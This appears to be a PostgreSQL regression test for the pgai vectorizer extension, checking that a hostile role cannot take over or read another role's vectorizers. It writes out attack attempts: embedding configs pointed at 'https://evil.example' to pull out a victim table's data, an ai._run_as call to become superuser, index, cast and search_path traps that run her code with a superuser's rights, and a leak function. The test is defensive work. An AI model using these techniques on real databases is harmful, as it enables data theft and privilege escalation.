-- What a role can and cannot do with vectorizers, its own and those of others.
\set SHOW_CONTEXT never
SELECT setval('ai.vectorizer_id_seq', 1, false);
CREATE ROLE regress_ai_owner;
CREATE ROLE regress_ai_mallory;
CREATE ROLE regress_ai_reader;
CREATE SCHEMA victim AUTHORIZATION regress_ai_owner;
CREATE SCHEMA evil AUTHORIZATION regress_ai_mallory;
SET ROLE regress_ai_owner;
CREATE TABLE victim.src (id int PRIMARY KEY, body text);
INSERT INTO victim.src VALUES (1, 'secret');
SELECT ai.create_vectorizer('victim.src', name => 'victims', loading => ai.loading_column('body'),
    embedding => ai.embedding_openai('m', 3, base_url => 'https://good.example'));

-- Somebody else may not create, drop, change or look, whatever rights on the table she has.
RESET ROLE;
GRANT USAGE, CREATE ON SCHEMA victim TO regress_ai_mallory;
GRANT INSERT, UPDATE, DELETE, TRUNCATE, REFERENCES, TRIGGER ON victim.src TO regress_ai_mallory;
SET ROLE regress_ai_mallory;
SELECT ai.create_vectorizer('victim.src', loading => ai.loading_column('body'),
    embedding => ai.embedding_openai('m', 3, base_url => 'https://evil.example'),
    destination => ai.destination_table('stolen', target_schema => 'evil', view_schema => 'evil'));
SELECT ai.drop_vectorizer('victims');
SELECT ai.drop_vectorizer(1, true);
SELECT ai.disable_vectorizer_schedule('victims');
SELECT ai.enable_vectorizer_schedule(1);
SELECT ai.set_scheduling(1, ai.scheduling_none());
SELECT ai.vectorizer_queue_pending('victims');
SELECT ai.vectorizer_queue_failed(1);
SELECT id, name, source_table, target_table, view, embedding_column, pending_items, disabled, failed_items FROM ai.vectorizer_status;
SELECT * FROM ai.vectorizer_errors;
SELECT * FROM victim.src_embedding;
SELECT * FROM victim.src_embedding_store;

-- A function that leaks what it is given sees nothing either.
CREATE FUNCTION evil.leak(text) RETURNS boolean LANGUAGE plpgsql COST 0.0000001
AS $$ BEGIN RAISE NOTICE 'leaked %', $1; RETURN true; END $$;
SELECT count(*) FROM ai.vectorizer_status WHERE evil.leak(name);
SELECT count(*) FROM ai.vectorizer_errors WHERE evil.leak(name);

-- The tables of the extension.
UPDATE ai.vectorizer SET config = jsonb_set(config, '{embedding,base_url}', '"https://evil.example"');
SELECT * FROM ai.vectorizer;
INSERT INTO ai.vectorizer (name, source) VALUES ('mine', 'victim.src');
DELETE FROM ai.vectorizer;
SELECT * FROM ai._vectorizer_detail;
SELECT nextval('ai.vectorizer_id_seq');
SELECT * FROM ai._vectorizer_errors;
INSERT INTO ai._vectorizer_errors (id, message) VALUES (1, 'x');
SELECT * FROM ai._vectorizer_q_1;
INSERT INTO ai._vectorizer_q_1 (id) VALUES (1);
DELETE FROM ai._vectorizer_q_1;
SELECT * FROM ai._vectorizer_queue;
SELECT * FROM ai._vectorizer_q_failed_1;
SELECT * FROM ai.vectorizer_worker_process;
INSERT INTO ai.vectorizer_worker_progress (vectorizer_id) VALUES (1);
CREATE TABLE ai.mine ();

-- The internal functions.
SELECT ai._create_vectorizer(10, 'victim.src', 'x', ai.destination_table(), ai.loading_column('body'), ai.parsing_auto(),
    ai.embedding_local(), ai.chunking_none(), ai.indexing_none(), ai.formatting_chunk_value(), ai.scheduling_none(),
    ai.processing_default(), NULL, NULL, '{}', true, false);
SELECT ai._drop_vectorizer(10, 1, true);
SELECT ai._set_scheduling(10, 1, ai.scheduling_none(), ai.indexing_none());
SELECT ai._enable_vectorizer_schedule(10, 1);
SELECT ai._vectorizer_queue_pending(10, 1, true);
SELECT ai._run_as(10, 'ALTER ROLE regress_ai_mallory SUPERUSER');
SELECT ai._vectorizer_notify();
SELECT ai._vectorizer_get(1);
SELECT ai._vectorizer_enqueue_rows(NULL, 'victim.src');
SELECT ai._vectorizer_set_disabled(10, jsonb_populate_record(NULL::ai.vectorizer, '{"id": 1}'), true);

-- Triggers that would write to a queue, or read from a target, for her.
CREATE TABLE evil.t (id int PRIMARY KEY, body text);
CREATE TRIGGER t AFTER INSERT ON evil.t FOR EACH ROW EXECUTE FUNCTION ai._vectorizer_enqueue('ai', '_vectorizer_q_1', 'id');
INSERT INTO evil.t VALUES (1, 'a');
DROP TRIGGER t ON evil.t;
CREATE TRIGGER t AFTER INSERT ON victim.src FOR EACH ROW EXECUTE FUNCTION ai._vectorizer_enqueue('ai', '_vectorizer_q_1', 'id');
CREATE TRIGGER t AFTER INSERT ON evil.t EXECUTE FUNCTION ai._vectorizer_flush();
CREATE TRIGGER t AFTER TRUNCATE ON evil.t EXECUTE FUNCTION ai._vectorizer_truncate('1');

-- Schemas in which she may not create.
SELECT ai.create_vectorizer('evil.t', loading => ai.loading_column('body'), embedding => ai.embedding_local(),
    queue_schema => 'pg_catalog');
SELECT ai.create_vectorizer('evil.t', loading => ai.loading_column('body'), embedding => ai.embedding_local(),
    queue_table => '_vectorizer_q_77');
RESET ROLE;
REVOKE CREATE ON SCHEMA victim FROM regress_ai_mallory;
SET ROLE regress_ai_mallory;
SELECT ai.create_vectorizer('evil.t', loading => ai.loading_column('body'), embedding => ai.embedding_local(),
    destination => ai.destination_table(target_schema => 'victim'));
SELECT ai.create_vectorizer('evil.t', loading => ai.loading_column('body'), embedding => ai.embedding_local(),
    destination => ai.destination_table(view_schema => 'victim'));
SELECT ai.create_vectorizer('evil.t', loading => ai.loading_column('body'), embedding => ai.embedding_local(),
    queue_schema => 'victim');
-- Nor one that is hers: another with her own tables could take its name, and workers would write to these.
SELECT ai.create_vectorizer('evil.t', loading => ai.loading_column('body'), embedding => ai.embedding_local(),
    queue_schema => 'evil');
SELECT relname FROM pg_class WHERE relname ~ '_vectorizer_q_\w*\d$' ORDER BY 1;

-- A superuser runs her function without meaning to: it has her rights, not his.
CREATE FUNCTION evil.index_me(int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $$
BEGIN
    PERFORM ai.create_vectorizer('victim.src', loading => ai.loading_column('body'),
        embedding => ai.embedding_openai('m', 3, base_url => 'https://evil.example'),
        destination => ai.destination_table('stolen'));
    RAISE WARNING 'she made a vectorizer on the table of another';
    RETURN $1;
EXCEPTION WHEN insufficient_privilege THEN
    RETURN $1;
END $$;
INSERT INTO evil.t VALUES (1, 'x');
CREATE INDEX ON evil.t (evil.index_me(id));
RESET ROLE;
ANALYZE evil.t;
SELECT name FROM ai.vectorizer;
DROP INDEX evil.t_index_me_idx;

-- Nor do we run hers with ours: planning a query evaluates the predicates of indexes.
SET ROLE regress_ai_mallory;
CREATE FUNCTION evil.predicate() RETURNS boolean IMMUTABLE LANGUAGE plpgsql AS $$
BEGIN
    IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
        RAISE EXCEPTION 'ran as superuser';
    END IF;
    RETURN true;
END $$;
CREATE INDEX ON evil.t (body) WHERE evil.predicate();
SELECT ai.create_vectorizer('evil.t', name => 'evils', loading => ai.loading_column('body'), embedding => ai.embedding_local('m', 3));
CREATE INDEX ON evil.t_embedding_store (chunk) WHERE evil.predicate();
INSERT INTO evil.t VALUES (2, 'y');
INSERT INTO evil.t_embedding_store (id, chunk_seq, chunk, embedding) VALUES (2, 0, 'y', '[1,2,3]');
TRUNCATE evil.t;
INSERT INTO evil.t VALUES (3, 'z');
RESET ROLE;
SELECT max(id) AS v FROM ai.vectorizer \gset
SET ROLE regress_ai_mallory;
SELECT format('DROP TRIGGER %I ON evil.t', '_vectorizer_src_trg_' || :v) \gexec
SELECT ai.enable_vectorizer_schedule('evils');
SELECT name, pending_items FROM ai.vectorizer_status;
SELECT ai.drop_vectorizer('evils', true);
DROP TABLE evil.t;

-- Names in public and in pg_temp that stand before ours and the system's.
RESET ROLE;
CREATE SCHEMA trap;
CREATE FUNCTION trap.sprung() RETURNS text LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'sprung'; END $$;
CREATE FUNCTION trap.format(text, VARIADIC text[]) RETURNS text LANGUAGE sql AS 'SELECT trap.sprung()';
CREATE FUNCTION trap.quote_ident(text) RETURNS text LANGUAGE sql AS 'SELECT trap.sprung()';
CREATE FUNCTION trap.to_regclass(text) RETURNS regclass LANGUAGE sql AS 'SELECT trap.sprung()::regclass';
CREATE FUNCTION trap.nextval(regclass) RETURNS bigint LANGUAGE sql AS 'SELECT trap.sprung()::bigint';
CREATE FUNCTION trap.jsonb_build_object(VARIADIC "any") RETURNS jsonb LANGUAGE internal AS 'jsonb_build_object_noargs';
CREATE FUNCTION trap.gen_random_uuid() RETURNS uuid LANGUAGE sql AS 'SELECT trap.sprung()::uuid';
CREATE FUNCTION trap.now() RETURNS timestamptz LANGUAGE sql AS 'SELECT trap.sprung()::timestamptz';
CREATE FUNCTION trap.equal(int, int) RETURNS boolean LANGUAGE sql AS 'SELECT trap.sprung()::boolean';
CREATE FUNCTION trap.equal(text, text) RETURNS boolean LANGUAGE sql AS 'SELECT trap.sprung()::boolean';
CREATE FUNCTION trap.concat(text, text) RETURNS text LANGUAGE sql AS 'SELECT trap.sprung()';
CREATE OPERATOR trap.= (LEFTARG = int, RIGHTARG = int, FUNCTION = trap.equal);
CREATE OPERATOR trap.= (LEFTARG = text, RIGHTARG = text, FUNCTION = trap.equal);
CREATE OPERATOR trap.|| (LEFTARG = text, RIGHTARG = text, FUNCTION = trap.concat);
CREATE DOMAIN trap.vector AS text;
CREATE DOMAIN trap.uuid AS text;
CREATE TEMP TABLE pg_class (oid oid, relname name, relkind "char", relowner oid, relnamespace oid);
CREATE TEMP TABLE pg_attribute (attrelid oid, attname name);
CREATE TEMP TABLE pg_roles (oid oid, rolname name, rolsuper bool);
CREATE TEMP TABLE vectorizer (id int, name text);
GRANT USAGE ON SCHEMA trap TO PUBLIC;
GRANT ALL ON ALL TABLES IN SCHEMA pg_temp TO PUBLIC;
CREATE TABLE evil.src (id int PRIMARY KEY, body text);
ALTER TABLE evil.src OWNER TO regress_ai_owner;
GRANT USAGE, CREATE ON SCHEMA evil TO regress_ai_owner;
SET search_path = pg_temp, trap, pg_catalog;
SET ROLE regress_ai_owner;
SELECT ai.create_vectorizer('evil.src', name => 'trapped', loading => ai.loading_column('body'),
    embedding => ai.embedding_local(), formatting => ai.formatting_python_template('$id $chunk')) OPERATOR(pg_catalog.>) 0 AS made;
INSERT INTO evil.src VALUES (1, 'a'), (2, 'b');
UPDATE evil.src SET body = 'c';
SELECT ai.vectorizer_queue_pending('trapped', true);
SELECT source_table, target_table, pending_items FROM ai.vectorizer_status ORDER BY 1 USING OPERATOR(pg_catalog.<);
SELECT * FROM evil.src_embedding;
TRUNCATE evil.src;
ALTER TABLE evil.src RENAME COLUMN body TO contents;
SELECT ai.disable_vectorizer_schedule('trapped');
SELECT ai.drop_vectorizer('trapped', true);
RESET ROLE;
RESET search_path;
DROP TABLE pg_temp.pg_class, pg_temp.pg_attribute, pg_temp.pg_roles, pg_temp.vectorizer;
\set VERBOSITY terse
DROP SCHEMA trap CASCADE;
\set VERBOSITY default
SELECT attname, format_type(atttypid, atttypmod) FROM pg_attribute
WHERE attrelid = 'victim.src_embedding_store'::regclass AND attname IN ('embedding', 'embedding_uuid') ORDER BY 1;

-- Who may see: readers of the source, readers of the target, pg_monitor.
GRANT USAGE ON SCHEMA victim TO regress_ai_reader;
SET ROLE regress_ai_reader;
SELECT count(*) FROM ai.vectorizer_status;
RESET ROLE;
GRANT SELECT ON victim.src TO regress_ai_reader;
SET ROLE regress_ai_reader;
SELECT name, pending_items FROM ai.vectorizer_status;
SELECT ai.disable_vectorizer_schedule('victims');
RESET ROLE;
REVOKE SELECT ON victim.src FROM regress_ai_reader;
GRANT SELECT ON victim.src_embedding_store TO regress_ai_reader;
SET ROLE regress_ai_reader;
SELECT name, pending_items FROM ai.vectorizer_status;
RESET ROLE;
REVOKE SELECT ON victim.src_embedding_store FROM regress_ai_reader;
GRANT pg_monitor TO regress_ai_reader;
SET ROLE regress_ai_reader;
SELECT name, pending_items FROM ai.vectorizer_status;
SELECT * FROM ai.vectorizer;
RESET ROLE;
REVOKE pg_monitor FROM regress_ai_reader;

-- grant_to gives no more than the caller has to give: the table, not the schema of another.
GRANT USAGE, CREATE ON SCHEMA evil TO regress_ai_owner;
SET ROLE regress_ai_owner;
SELECT ai.create_vectorizer('victim.src', name => 'granted', loading => ai.loading_column('body'), embedding => ai.embedding_local('m', 3),
    destination => ai.destination_table('granted', target_schema => 'evil'), grant_to => ai.grant_to('regress_ai_reader')) > 0 AS made;
RESET ROLE;
SELECT has_table_privilege('regress_ai_reader', 'evil.granted_store', 'SELECT') AS target,
    has_table_privilege('regress_ai_reader', 'evil.granted_store', 'INSERT') AS target_insert,
    has_table_privilege('regress_ai_reader', 'victim.granted', 'SELECT') AS view,
    has_table_privilege('regress_ai_reader', 'victim.src', 'SELECT') AS source,
    has_schema_privilege('regress_ai_reader', 'evil', 'USAGE') AS others_schema,
    has_schema_privilege('regress_ai_reader', 'victim', 'USAGE') AS own_schema;

-- Row security of the source holds in the view.
SET ROLE regress_ai_owner;
CREATE TABLE victim.rls (id int PRIMARY KEY, who name, body text);
ALTER TABLE victim.rls ENABLE ROW LEVEL SECURITY;
CREATE POLICY mine ON victim.rls USING (who = current_user);
SELECT ai.create_vectorizer('victim.rls', loading => ai.loading_column('body'), embedding => ai.embedding_local('m', 3),
    grant_to => ai.grant_to('regress_ai_reader')) > 0 AS made;
INSERT INTO victim.rls VALUES (1, 'regress_ai_owner', 'a'), (2, 'regress_ai_reader', 'b');
INSERT INTO victim.rls_embedding_store (id, chunk_seq, chunk, embedding) SELECT id, 0, body, '[1,2,3]' FROM victim.rls;
GRANT SELECT ON victim.rls TO regress_ai_reader;
SET ROLE regress_ai_reader;
SELECT id, chunk FROM victim.rls_embedding;
RESET ROLE;

-- Also if it is enabled later; what was said of the view itself stays.
SET ROLE regress_ai_owner;
CREATE TABLE victim.later (id int PRIMARY KEY, who name, body text);
SELECT ai.create_vectorizer('victim.later', loading => ai.loading_column('body'), embedding => ai.embedding_local('m', 3),
    destination => ai.destination_table(d), grant_to => ai.grant_to('regress_ai_reader')) > 0 AS made
FROM unnest('{later_view,told_view}'::text[]) d;
INSERT INTO victim.later VALUES (1, 'regress_ai_owner', 'a'), (2, 'regress_ai_reader', 'b');
INSERT INTO victim.later_view_store (id, chunk_seq, chunk, embedding) SELECT id, 0, body, '[1,2,3]' FROM victim.later;
INSERT INTO victim.told_view_store SELECT * FROM victim.later_view_store;
GRANT SELECT ON victim.later TO regress_ai_reader;
ALTER VIEW victim.told_view SET (security_invoker = false);
CREATE POLICY mine ON victim.later USING (who = current_user);
ALTER TABLE victim.later ENABLE ROW LEVEL SECURITY;
SET ROLE regress_ai_reader;
SELECT id, chunk FROM victim.later_view;
SELECT id, chunk FROM victim.told_view;
RESET ROLE;

-- Row security that holds for the owner, too: nobody thinks of that by himself.
SET ROLE regress_ai_owner;
ALTER TABLE victim.rls FORCE ROW LEVEL SECURITY;
SELECT ai.create_vectorizer('victim.rls', loading => ai.loading_column('body'), embedding => ai.embedding_local('m', 3),
    destination => ai.destination_table('forced')) AS v \gset
SELECT key FROM ai.jobs(:v);
RESET ROLE;

-- Nor by operators in a schema of hers, for the same reason as with queues.
ALTER EXTENSION vector SET SCHEMA evil;
SET ROLE regress_ai_mallory;
CREATE TABLE evil.vectors (id evil.vector(2) PRIMARY KEY, body text);
SELECT ai.create_vectorizer('evil.vectors', loading => ai.loading_column('body'), embedding => ai.embedding_local('m', 3));
DROP TABLE evil.vectors;
RESET ROLE;
ALTER EXTENSION vector SET SCHEMA public;

-- A cast of hers that makes the keys of her table impossible to compare hides nobody's numbers but her own.
SET ROLE regress_ai_mallory;
CREATE TYPE evil.key AS (a int);
CREATE TABLE evil.keyed (id evil.key PRIMARY KEY, body text);
SELECT ai.create_vectorizer('evil.keyed', name => 'keyed', loading => ai.loading_column('body'), embedding => ai.embedding_local('m', 3)) > 0 AS made;
CREATE FUNCTION evil.cast_key(evil.key) RETURNS text LANGUAGE plpgsql AS $$ BEGIN RAISE WARNING 'ran as %', current_user; RETURN 'x'; END $$;
CREATE CAST (evil.key AS text) WITH FUNCTION evil.cast_key(evil.key) AS IMPLICIT;
INSERT INTO evil.keyed VALUES (row(1)::evil.key, 'a'), (row(2)::evil.key, 'b');
RESET ROLE;
SELECT name, pending_items, last_error FROM ai.vectorizer_status WHERE name IN ('victims', 'keyed') ORDER BY 1;
SELECT name, pending, failed FROM ai.job_counts WHERE name IN ('victims', 'keyed') ORDER BY 1;

-- grant_vectorizer_usage: for those who took it from PUBLIC. Who writes to a source still needs nothing.
SET ROLE regress_ai_mallory;
SELECT ai.grant_vectorizer_usage('regress_ai_mallory', true);
RESET ROLE;
BEGIN;
REVOKE USAGE ON SCHEMA ai FROM PUBLIC;
REVOKE EXECUTE ON ALL FUNCTIONS IN SCHEMA ai FROM PUBLIC;
REVOKE SELECT ON ALL TABLES IN SCHEMA ai FROM PUBLIC;
SAVEPOINT s;
SET LOCAL ROLE regress_ai_owner;
SELECT count(*) FROM ai.vectorizer_status;
ROLLBACK TO s;
SELECT ai.grant_ai_usage('regress_ai_owner');
SET LOCAL ROLE regress_ai_mallory;
UPDATE victim.src SET body = 'by a writer';
SET LOCAL ROLE regress_ai_owner;
SELECT count(*) FROM ai.vectorizer_status;
CREATE TABLE victim.again (id int PRIMARY KEY, body text);
SELECT ai.create_vectorizer('victim.again', loading => ai.loading_column('body'), embedding => ai.embedding_local('m', 3)) > 0 AS made;
INSERT INTO victim.again VALUES (1, 'a');
UPDATE victim.again SET body = 'b';
SELECT pending_items FROM ai.vectorizer_status WHERE source_table = 'victim.again';
SAVEPOINT s;
SELECT ai._run_as(10, 'SELECT 1');
ROLLBACK TO s;
SELECT count(*) FROM ai.vectorizer;
ROLLBACK;

\set VERBOSITY terse
DROP SCHEMA victim CASCADE;
DROP SCHEMA evil CASCADE;
DROP OWNED BY regress_ai_owner, regress_ai_mallory, regress_ai_reader;
DROP ROLE regress_ai_owner, regress_ai_mallory, regress_ai_reader;
SELECT count(*) FROM ai.vectorizer;
